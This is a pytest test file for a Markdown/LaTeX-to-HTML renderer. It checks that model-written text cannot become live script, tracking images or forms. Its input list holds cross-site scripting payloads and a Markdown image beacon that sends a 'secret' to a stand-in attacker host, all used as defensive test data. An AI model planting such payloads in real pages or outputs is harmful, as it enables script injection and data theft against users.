"""What a model writes cannot become a script, a picture from elsewhere, or a form."""

from __future__ import annotations

import re

import pytest

from studio.ui.prose import prose

HOSTILE = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<svg><script>alert(1)</script></svg>",
    "![tracker](http://evil.example/?q=secret)",
    "![ref][x]\n\n[x]: http://evil.example/p.png",
    '<iframe src="http://evil.example"></iframe>',
    "[click](javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    r"\(\text{<img src=x onerror=alert(1)>}\)",
    r"\[\href{javascript:alert(1)}{x}\]",
    "$$\\unicode{x3cscript}<script>alert(1)</script>$$",
    "```html\n<script>alert(1)</script>\n```",
    '```"><img src=x onerror=alert(1)>\nx\n```',
    "<style>*{display:none}</style>",
    '<form action="http://evil.example"><input></form>',
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_text(text: str) -> None:
    html = prose(text)
    tags = {tag.lower() for tag in re.findall(r"<\s*/?\s*([a-zA-Z]+)", html)}
    assert not tags & {"script", "img", "svg", "iframe", "style", "form", "input", "object", "embed", "link", "meta"}
    for tag in re.findall(r"<[a-zA-Z][^>]*>", html):
        assert not re.search(r"\son\w+\s*=", tag), tag
        assert "javascript:" not in tag, tag
        assert "data:" not in tag, tag


def test_markdown_code_and_formulas_are_drawn() -> None:
    html = prose("**bold** and `code`\n\n```python\nx = 1  # one\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |")
    assert "<strong>bold</strong>" in html
    assert "<code>code</code>" in html
    assert 'class="n"' in html
    assert "<table>" in html
    assert "<math" in prose(r"so \(a^2 + b^2\) is")
    assert 'display="block"' in prose("\\[\n\\frac{1}{2}\n\\]")
    assert "costs $5 or $6" in prose("costs $5 or $6")


def test_links_learn_nothing() -> None:
    html = prose("[there](https://example.org)")
    assert 'rel="noopener noreferrer nofollow"' in html
    assert 'target="_blank"' in html


def test_a_formula_that_is_none_is_shown_as_written() -> None:
    assert "frac" in prose(r"\(\frac{\)")


def test_headings_go_on_below_the_tab_s_without_a_gap() -> None:
    levels = re.findall(r"<h(\d)>", prose("## a\n# b\n### c\n\nd\n-\n\n##### e\n# f"))
    assert levels == ["3", "3", "4", "4", "5", "3"]
